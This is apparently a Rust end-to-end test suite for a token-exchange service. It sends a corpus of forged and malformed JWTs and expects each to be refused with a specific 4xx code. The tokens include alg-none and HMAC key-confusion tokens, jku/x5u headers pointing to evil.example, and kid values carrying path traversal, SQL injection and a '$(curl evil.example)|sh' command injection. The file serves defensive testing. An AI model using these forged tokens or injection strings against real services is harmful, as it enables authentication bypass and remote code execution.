//! The JWT attack corpus: one table row per attack, each sent to the running service and expected
//! to be refused with a 4xx and its stable code, never a 5xx, never a panic. After the corpus the
//! service must still answer.

use base64::Engine;
use base64::engine::general_purpose::{STANDARD, URL_SAFE_NO_PAD};
use serde_json::{Value, json};
use stsbridge::config::SigningAlgorithm;
use stsbridge::issuer::SigningKey;
use stsbridge_e2e::TestIdp;

use crate::{Setup, Stack};

fn b64(bytes: impl AsRef<[u8]>) -> String {
    URL_SAFE_NO_PAD.encode(bytes)
}

/// What each attack has to work with.
struct Ctx<'a> {
    idp: &'a TestIdp,
    partner: &'a TestIdp,
    attacker_rsa: SigningKey,
    attacker_ec: SigningKey,
}

impl Ctx<'_> {
    fn claims(&self) -> Value {
        self.idp.claims("svc:alice")
    }
    fn with(&self, f: impl FnOnce(&mut serde_json::Map<String, Value>)) -> String {
        let mut c = self.claims();
        f(c.as_object_mut().unwrap());
        self.idp.sign(&c)
    }
    fn header(&self, h: Value) -> String {
        self.idp.sign_parts(
            h.to_string().as_bytes(),
            self.claims().to_string().as_bytes(),
        )
    }
    fn good(&self) -> String {
        self.idp.sign(&self.claims())
    }
    fn parts(&self) -> Vec<String> {
        self.good().split('.').map(str::to_owned).collect()
    }
    /// Signed by a key of the attacker's, with `header`.
    fn attacker(&self, key: &SigningKey, header: Value) -> String {
        let input = format!(
            "{}.{}",
            b64(header.to_string()),
            b64(self.claims().to_string())
        );
        format!("{input}.{}", b64(key.sign(input.as_bytes()).unwrap()))
    }
    fn unsigned(&self, alg: &str) -> String {
        format!(
            "{}.{}.",
            b64(json!({ "alg": alg, "typ": "JWT" }).to_string()),
            b64(self.claims().to_string())
        )
    }
    fn hmac(&self, alg: &str, secret: &[u8]) -> String {
        let input = format!(
            "{}.{}",
            b64(json!({ "alg": alg, "kid": self.idp.kid() }).to_string()),
            b64(self.claims().to_string())
        );
        let algorithm = match alg {
            "HS384" => aws_lc_rs::hmac::HMAC_SHA384,
            "HS512" => aws_lc_rs::hmac::HMAC_SHA512,
            _ => aws_lc_rs::hmac::HMAC_SHA256,
        };
        let tag = aws_lc_rs::hmac::sign(
            &aws_lc_rs::hmac::Key::new(algorithm, secret),
            input.as_bytes(),
        );
        format!("{input}.{}", b64(tag.as_ref()))
    }
}

/// One attack: a name, the token to send, and the status and reason code expected.
type Row = (&'static str, fn(&Ctx<'_>) -> String, u16, &'static str);

fn corpus() -> Vec<Row> {
    let n_bytes = |c: &Ctx<'_>| {
        URL_SAFE_NO_PAD
            .decode(c.idp.public_jwk()["n"].as_str().unwrap())
            .unwrap()
    };
    let _ = n_bytes;
    vec![
        ("alg none", |c| c.unsigned("none"), 401, "alg_none"),
        ("alg None", |c| c.unsigned("None"), 401, "alg_none"),
        ("alg NONE", |c| c.unsigned("NONE"), 401, "alg_none"),
        ("alg nOnE", |c| c.unsigned("nOnE"), 401, "alg_none"),
        (
            "alg none with a valid token's signature",
            |c| format!("{}{}", c.unsigned("none"), c.parts()[2]),
            401,
            "alg_none",
        ),
        (
            "HS256 keyed with the issuer's modulus",
            |c| {
                c.hmac(
                    "HS256",
                    &URL_SAFE_NO_PAD
                        .decode(c.idp.public_jwk()["n"].as_str().unwrap())
                        .unwrap(),
                )
            },
            401,
            "alg_hmac",
        ),
        (
            "HS384 keyed with the issuer's modulus",
            |c| {
                c.hmac(
                    "HS384",
                    &URL_SAFE_NO_PAD
                        .decode(c.idp.public_jwk()["n"].as_str().unwrap())
                        .unwrap(),
                )
            },
            401,
            "alg_hmac",
        ),
        (
            "HS512 keyed with the issuer's modulus",
            |c| {
                c.hmac(
                    "HS512",
                    &URL_SAFE_NO_PAD
                        .decode(c.idp.public_jwk()["n"].as_str().unwrap())
                        .unwrap(),
                )
            },
            401,
            "alg_hmac",
        ),
        (
            "HS256 keyed with the JWK text",
            |c| c.hmac("HS256", c.idp.public_jwk().to_string().as_bytes()),
            401,
            "alg_hmac",
        ),
        (
            "jku to the attacker's JWKS",
            |c| {
                c.attacker(
                    &c.attacker_rsa,
                    json!({ "alg": "RS256", "jku": "https://evil.example/jwks.json" }),
                )
            },
            401,
            "bad_signature",
        ),
        (
            "x5u to the attacker's certificate",
            |c| {
                c.attacker(
                    &c.attacker_rsa,
                    json!({ "alg": "RS256", "x5u": "https://evil.example/cert.pem" }),
                )
            },
            401,
            "bad_signature",
        ),
        (
            "jwk embedding the attacker's key",
            |c| {
                c.attacker(
                    &c.attacker_rsa,
                    json!({ "alg": "RS256", "jwk": c.attacker_rsa.public_jwk() }),
                )
            },
            401,
            "bad_signature",
        ),
        (
            "x5c embedding a certificate",
            |c| {
                c.attacker(
                    &c.attacker_rsa,
                    json!({ "alg": "RS256", "x5c": [STANDARD.encode(b"not a certificate")] }),
                )
            },
            401,
            "bad_signature",
        ),
        (
            "the attacker's own kid",
            |c| {
                c.attacker(
                    &c.attacker_rsa,
                    json!({ "alg": "RS256", "kid": c.attacker_rsa.kid() }),
                )
            },
            401,
            "unknown_kid",
        ),
        (
            "the issuer's kid, the attacker's signature",
            |c| {
                c.attacker(
                    &c.attacker_rsa,
                    json!({ "alg": "RS256", "kid": c.idp.kid() }),
                )
            },
            401,
            "bad_signature",
        ),
        (
            "kid path traversal",
            |c| c.header(json!({ "alg": "RS256", "kid": "../../../../../../dev/null" })),
            401,
            "unknown_kid",
        ),
        (
            "kid SQL injection",
            |c| c.header(json!({ "alg": "RS256", "kid": "x' UNION SELECT 'secret' --" })),
            401,
            "unknown_kid",
        ),
        (
            "kid command injection",
            |c| c.header(json!({ "alg": "RS256", "kid": "$(curl evil.example)|sh" })),
            401,
            "unknown_kid",
        ),
        (
            "kid with a NUL byte",
            |c| c.header(json!({ "alg": "RS256", "kid": "a\u{0}b" })),
            401,
            "unknown_kid",
        ),
        (
            "kid as a URL",
            |c| c.header(json!({ "alg": "RS256", "kid": "https://evil.example/key" })),
            401,
            "unknown_kid",
        ),
        (
            "kid not a string",
            |c| c.header(json!({ "alg": "RS256", "kid": { "$ne": null } })),
            401,
            "malformed_header",
        ),
        (
            "unknown crit",
            |c| c.header(json!({ "alg": "RS256", "kid": c.idp.kid(), "crit": ["exp"] })),
            401,
            "crit_unsupported",
        ),
        (
            "empty crit",
            |c| c.header(json!({ "alg": "RS256", "kid": c.idp.kid(), "crit": [] })),
            401,
            "crit_unsupported",
        ),
        (
            "b64 false under crit",
            |c| {
                c.header(
                    json!({ "alg": "RS256", "kid": c.idp.kid(), "b64": false, "crit": ["b64"] }),
                )
            },
            401,
            "crit_unsupported",
        ),
        (
            "tampered payload",
            |c| {
                let p = c.parts();
                let mut claims = c.claims();
                claims["sub"] = json!("svc:admin");
                format!("{}.{}.{}", p[0], b64(claims.to_string()), p[2])
            },
            401,
            "bad_signature",
        ),
        (
            "stripped signature",
            |c| {
                let p = c.parts();
                format!("{}.{}.", p[0], p[1])
            },
            401,
            "bad_signature",
        ),
        (
            "truncated signature",
            |c| {
                let p = c.parts();
                format!("{}.{}.{}", p[0], p[1], &p[2][..20])
            },
            401,
            "bad_signature",
        ),
        (
            "signature not base64url",
            |c| {
                let p = c.parts();
                format!("{}.{}.***", p[0], p[1])
            },
            401,
            "bad_signature",
        ),
        (
            "expired",
            |c| {
                c.with(|m| {
                    m.insert("iat".into(), json!(1_000));
                    m.insert("exp".into(), json!(1_600));
                })
            },
            401,
            "expired",
        ),
        (
            "not yet valid",
            |c| {
                c.with(|m| {
                    let t = m["iat"].as_u64().unwrap();
                    m.insert("nbf".into(), json!(t + 300));
                })
            },
            401,
            "not_yet_valid",
        ),
        (
            "issued in the future",
            |c| {
                c.with(|m| {
                    let t = m["iat"].as_u64().unwrap();
                    m.insert("iat".into(), json!(t + 300));
                    m.insert("exp".into(), json!(t + 900));
                })
            },
            401,
            "issued_in_future",
        ),
        (
            "no iat: the token's true lifetime is unknown",
            |c| {
                c.with(|m| {
                    m.remove("iat");
                })
            },
            401,
            "missing_iat",
        ),
        (
            "an act chain that is not objects with a string sub, from an accept_act issuer",
            |c| {
                c.partner.token(
                    "svc:alice",
                    json!({ "act": { "sub": "svc:gateway", "act": "root" } }),
                )
            },
            400,
            "invalid_request",
        ),
        (
            "lifetime too long",
            |c| {
                c.with(|m| {
                    let t = m["iat"].as_u64().unwrap();
                    m.insert("exp".into(), json!(t + 30 * 86_400));
                })
            },
            401,
            "lifetime_too_long",
        ),
        (
            "no exp",
            |c| {
                c.with(|m| {
                    m.remove("exp");
                })
            },
            401,
            "missing_exp",
        ),
        (
            "exp as a string",
            |c| {
                c.with(|m| {
                    m.insert("exp".into(), json!("never"));
                })
            },
            401,
            "invalid_claim",
        ),
        (
            "iss with a trailing slash",
            |c| {
                c.with(|m| {
                    let i = format!("{}/", m["iss"].as_str().unwrap());
                    m.insert("iss".into(), json!(i));
                })
            },
            401,
            "unknown_issuer",
        ),
        (
            "iss in upper case",
            |c| {
                c.with(|m| {
                    let i = m["iss"].as_str().unwrap().to_uppercase();
                    m.insert("iss".into(), json!(i));
                })
            },
            401,
            "unknown_issuer",
        ),
        (
            "iss is a trust entry's name",
            |c| {
                c.with(|m| {
                    m.insert("iss".into(), json!("ci"));
                })
            },
            401,
            "unknown_issuer",
        ),
        (
            "iss of another trusted issuer, our key",
            |c| {
                c.with(|m| {
                    m.insert("iss".into(), json!(c.partner.issuer.clone()));
                })
            },
            401,
            "unknown_kid",
        ),
        (
            "no iss",
            |c| {
                c.with(|m| {
                    m.remove("iss");
                })
            },
            401,
            "missing_iss",
        ),
        (
            "no aud",
            |c| {
                c.with(|m| {
                    m.remove("aud");
                })
            },
            401,
            "missing_aud",
        ),
        (
            "wrong aud",
            |c| {
                c.with(|m| {
                    m.insert("aud".into(), json!("https://other.example"));
                })
            },
            401,
            "audience_mismatch",
        ),
        (
            "aud array without ours",
            |c| {
                c.with(|m| {
                    m.insert("aud".into(), json!(["a", "b", "https://stsbridge.test/"]));
                })
            },
            401,
            "audience_mismatch",
        ),
        (
            "no sub",
            |c| {
                c.with(|m| {
                    m.remove("sub");
                })
            },
            401,
            "missing_sub",
        ),
        (
            "another trusted issuer's token against our rules",
            |c| c.partner.token("svc:alice", json!({})),
            403,
            "access_denied",
        ),
        (
            "duplicate sub",
            |c| {
                let t = c.claims();
                let text = format!(
                    r#"{{"iss":{},"sub":"svc:alice","sub":"svc:admin","aud":{},"iat":{},"exp":{}}}"#,
                    t["iss"], t["aud"], t["iat"], t["exp"]
                );
                c.idp.sign_parts(
                    json!({ "alg": "RS256", "kid": c.idp.kid() })
                        .to_string()
                        .as_bytes(),
                    text.as_bytes(),
                )
            },
            401,
            "duplicate_json_key",
        ),
        (
            "duplicate alg",
            |c| {
                let h = format!(r#"{{"alg":"RS256","alg":"none","kid":"{}"}}"#, c.idp.kid());
                c.idp
                    .sign_parts(h.as_bytes(), c.claims().to_string().as_bytes())
            },
            401,
            "duplicate_json_key",
        ),
        (
            "claims not UTF-8",
            |c| {
                c.idp.sign_parts(
                    json!({ "alg": "RS256", "kid": c.idp.kid() })
                        .to_string()
                        .as_bytes(),
                    b"{\"iss\":\"\xff\xfe\"}",
                )
            },
            401,
            "malformed_claims",
        ),
        (
            "claims nested 1000 deep",
            |c| {
                c.with(|m| {
                    let mut v = json!(1);
                    for _ in 0..200 {
                        v = json!([v]);
                    }
                    m.insert("deep".into(), v);
                })
            },
            401,
            "json_too_deep",
        ),
        (
            "17 KiB token",
            |c| {
                c.with(|m| {
                    m.insert("pad".into(), json!("x".repeat(17 * 1024)));
                })
            },
            401,
            "token_too_large",
        ),
        (
            "garbage base64",
            |_| "%%%.%%%.%%%".into(),
            401,
            "malformed_token",
        ),
        (
            "two segments",
            |c| {
                let p = c.parts();
                format!("{}.{}", p[0], p[1])
            },
            401,
            "malformed_token",
        ),
        (
            "four segments",
            |c| format!("{}.x", c.good()),
            401,
            "malformed_token",
        ),
        (
            "ES256 for an RS256-only issuer",
            |c| {
                c.attacker(
                    &c.attacker_ec,
                    json!({ "alg": "ES256", "kid": c.idp.kid() }),
                )
            },
            401,
            "alg_not_allowed",
        ),
        (
            "RS1, an unsupported alg",
            |c| c.header(json!({ "alg": "RS1", "kid": c.idp.kid() })),
            401,
            "alg_unsupported",
        ),
        (
            "header is not JSON",
            |c| {
                c.idp
                    .sign_parts(b"not json", c.claims().to_string().as_bytes())
            },
            401,
            "malformed_header",
        ),
    ]
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn every_attack_is_refused_with_its_code_and_the_service_survives() {
    let partner = TestIdp::start().await;
    let trust_extra = format!(
        "  - {{ name: partner, issuer: \"{}\", audiences: [\"https://stsbridge.test\"], jwks: {{ discovery: true }}, allow_insecure_loopback: true, replay: reject, accept_act: true }}",
        partner.issuer
    );
    let stack = Stack::start(Setup {
        trust_extra: &trust_extra,
        // The whole corpus comes from one address, faster than the default failure budget.
        extra: "limits: { failed_validations_per_address: off }",
        ..Setup::default()
    })
    .await;
    let ctx = Ctx {
        idp: &stack.idp,
        partner: &partner,
        attacker_rsa: SigningKey::generate(SigningAlgorithm::Rs256).unwrap().0,
        attacker_ec: SigningKey::generate(SigningAlgorithm::Es256).unwrap().0,
    };
    let rows = corpus();
    assert!(rows.len() >= 40, "the corpus has {} attacks", rows.len());
    eprintln!("attack corpus: {} tokens", rows.len());
    let mut failures = Vec::new();
    for (name, build, status, code) in &rows {
        let token = build(&ctx);
        let (got, body, _) = stack.credentials("api", &format!("Bearer {token}")).await;
        let ok = got == *status
            && if *status == 401 {
                body["error"] == "invalid_token"
                    && body["error_description"]
                        .as_str()
                        .is_some_and(|d| d.ends_with(&format!("({code})")))
            } else {
                body["error"] == *code
            };
        if !ok {
            failures.push(format!(
                "{name}: expected {status} {code}, got {got} {body}"
            ));
        }
    }
    assert!(
        failures.is_empty(),
        "{} of {} attacks got the wrong answer:\n{}",
        failures.len(),
        rows.len(),
        failures.join("\n")
    );

    // A replayed jti where the issuer rejects replay.
    let once = partner.token("svc:alice", json!({}));
    assert_eq!(
        stack.credentials("api", &format!("Bearer {once}")).await.0,
        403,
        "first use reaches the rules"
    );
    let (status, body, _) = stack.credentials("api", &format!("Bearer {once}")).await;
    assert_eq!(status, 401);
    assert!(
        body["error_description"]
            .as_str()
            .unwrap()
            .ends_with("(replayed_jti)"),
        "{body}"
    );

    // Oversized requests never reach a handler's error path: 431 and 413, not 5xx.
    let huge = "a".repeat(1024 * 1024);
    let r = stack
        .http
        .get(stack.bridge.url("/v1/credentials/api"))
        .header("Authorization", format!("Bearer {huge}"))
        .send()
        .await;
    match r {
        Ok(r) => assert!(r.status().is_client_error(), "1 MiB header: {}", r.status()),
        Err(e) => assert!(
            e.is_request() || e.is_connect() || e.is_body(),
            "1 MiB header: {e}"
        ),
    }
    // A new client each time: the server closes a connection whose request it refused unread.
    let r = reqwest::Client::new()
        .post(stack.bridge.url("/oauth2/token"))
        .form(&[
            (
                "grant_type",
                "urn:ietf:params:oauth:grant-type:token-exchange",
            ),
            ("subject_token", &huge),
        ])
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 413, "1 MiB form body");
    let body: Value = r.json().await.unwrap();
    assert_eq!(body["error"], "request_too_large");

    // Still alive, and nothing panicked. A new client: the server closes the connection that
    // carried the oversized body (it never reads it), and a pooled client could race that close
    // by reusing the connection.
    assert_eq!(
        reqwest::Client::new()
            .get(stack.bridge.url("/healthz"))
            .send()
            .await
            .unwrap()
            .status(),
        200
    );
    assert!(
        !stack.bridge.stderr().contains("panicked"),
        "{}",
        stack.bridge.stderr()
    );
}
